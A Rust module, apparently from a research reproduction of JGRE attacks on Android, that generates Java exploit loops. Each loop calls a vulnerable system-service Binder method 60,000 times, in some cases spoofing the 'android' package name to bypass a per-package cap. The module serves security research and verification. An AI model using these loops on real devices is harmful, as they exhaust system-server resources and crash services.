//! Test-case / exploit code generation (§III-D).
//!
//! The paper generates its verification apps semi-automatically with
//! Javapoet, feeding analysed parameters into templates; Code-Snippet 2
//! shows the shape of the result. This module renders the equivalent Java
//! source for any risky interface: a direct-Binder loop with the right
//! service name, method, arguments (callback binder, spoofed package
//! name), and manifest permissions — exactly what an analyst would build
//! an APK from.

use jgre_corpus::spec::{AospSpec, Flaw, Permission, Protection};

use crate::{RiskyInterface, ServiceKind};

/// A generated verification app: Java source plus the manifest
/// permissions it must declare.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct GeneratedTestCase {
    /// The `service.method` under test.
    pub target: String,
    /// Manifest `<uses-permission>` entries.
    pub permissions: Vec<&'static str>,
    /// The Java source of the attack loop.
    pub java_source: String,
}

/// Renders the Code-Snippet-2-style test case for one risky interface.
///
/// The ground-truth spec supplies the protection detail the analyst reads
/// from the service's source (whether the package-name spoof is needed).
///
/// # Example
///
/// ```
/// use jgre_analysis::{generate_test_case, DataflowDetector, IpcMethodExtractor,
///     JgrEntryExtractor};
/// use jgre_corpus::{spec::AospSpec, CodeModel};
///
/// let spec = AospSpec::android_6_0_1();
/// let model = CodeModel::synthesize(&spec);
/// let ipc = IpcMethodExtractor::new(&model).extract();
/// let entries = JgrEntryExtractor::new(&model).extract();
/// let out = DataflowDetector::new(&model, &entries).detect(&ipc).detector;
/// let wifi = out.risky.iter()
///     .find(|r| r.ipc.service == "wifi" && r.ipc.method == "acquireWifiLock")
///     .unwrap();
/// let case = generate_test_case(wifi, &spec);
/// assert!(case.java_source.contains("ServiceManager.getService(\"wifi\")"));
/// assert!(case.permissions.contains(&"android.permission.WAKE_LOCK"));
/// ```
pub fn generate_test_case(risky: &RiskyInterface, spec: &AospSpec) -> GeneratedTestCase {
    let service = &risky.ipc.service;
    let method = &risky.ipc.method;
    let iface = &risky.ipc.interface;
    let (permissions, spoof) = lookup_spec_facts(risky, spec);

    let package_arg = if spoof {
        // Code-Snippet 3's bypass: claim to be the "android" package.
        "\"android\" /* spoofed: bypasses the per-package cap */".to_owned()
    } else {
        "getPackageName()".to_owned()
    };
    let callback_arg = if risky.via_binder_params {
        ", new Binder()"
    } else {
        ""
    };
    let java_source = format!(
        "\
// Auto-generated JGRE verification case for {service}.{method}
// (cf. the paper's Code-Snippet 2; built like its Javapoet output).
{iface} service = {iface}.Stub.asInterface(
        ServiceManager.getService(\"{service}\"));
for (int i = 0; i < 60000; i++) {{
    service.{method}({package_arg}{callback_arg});
}}
"
    );
    GeneratedTestCase {
        target: format!("{service}.{method}"),
        permissions: permissions.iter().map(|p| p.manifest_name()).collect(),
        java_source,
    }
}

fn lookup_spec_facts(risky: &RiskyInterface, spec: &AospSpec) -> (Vec<Permission>, bool) {
    let method_spec = match &risky.ipc.kind {
        ServiceKind::SystemService | ServiceKind::NativeService => spec
            .service(&risky.ipc.service)
            .and_then(|s| s.method(&risky.ipc.method)),
        ServiceKind::PrebuiltApp(pkg) => spec
            .prebuilt_apps
            .iter()
            .find(|a| &a.package == pkg)
            .and_then(|a| {
                a.services
                    .iter()
                    .find(|s| s.interface == risky.ipc.interface)
            })
            .and_then(|s| s.method(&risky.ipc.method)),
        ServiceKind::ThirdPartyApp(_) => None,
    };
    match method_spec {
        Some(m) => (
            m.permission.into_iter().collect(),
            matches!(
                m.protection,
                Protection::PerProcessLimit {
                    flaw: Some(Flaw::SystemPackageSpoof),
                    ..
                }
            ),
        ),
        None => (Vec::new(), false),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{IpcMethodExtractor, JgrEntryExtractor, VulnerableIpcDetector};
    use jgre_corpus::CodeModel;

    fn risky_set() -> (AospSpec, Vec<RiskyInterface>) {
        let spec = AospSpec::android_6_0_1();
        let model = CodeModel::synthesize(&spec);
        let ipc = IpcMethodExtractor::new(&model).extract();
        let entries = JgrEntryExtractor::new(&model).extract();
        let out = VulnerableIpcDetector::new(&model, &entries).detect(&ipc);
        (spec, out.risky)
    }

    #[test]
    fn toast_case_uses_the_spoof() {
        let (spec, risky) = risky_set();
        let toast = risky
            .iter()
            .find(|r| r.ipc.method == "enqueueToast")
            .expect("toast is risky");
        let case = generate_test_case(toast, &spec);
        assert!(
            case.java_source.contains("\"android\""),
            "{}",
            case.java_source
        );
        assert!(case
            .java_source
            .contains("INotificationManager.Stub.asInterface"));
        assert!(case.permissions.is_empty(), "zero-permission exploit");
    }

    #[test]
    fn telephony_case_declares_dangerous_permission() {
        let (spec, risky) = risky_set();
        let listen = risky
            .iter()
            .find(|r| {
                r.ipc.service == "telephony.registry" && r.ipc.method == "listenForSubscriber"
            })
            .expect("listenForSubscriber is risky");
        let case = generate_test_case(listen, &spec);
        assert_eq!(
            case.permissions,
            vec!["android.permission.READ_PHONE_STATE"]
        );
        assert!(
            case.java_source.contains("getPackageName()"),
            "no spoof needed"
        );
        assert!(
            case.java_source.contains("new Binder()"),
            "callback argument"
        );
    }

    #[test]
    fn every_risky_interface_generates_compilable_shape() {
        let (spec, risky) = risky_set();
        for r in &risky {
            let case = generate_test_case(r, &spec);
            assert!(case.java_source.contains("for (int i = 0; i < 60000; i++)"));
            assert!(case.java_source.contains(&r.ipc.method));
            assert!(!case.target.is_empty());
        }
    }
}
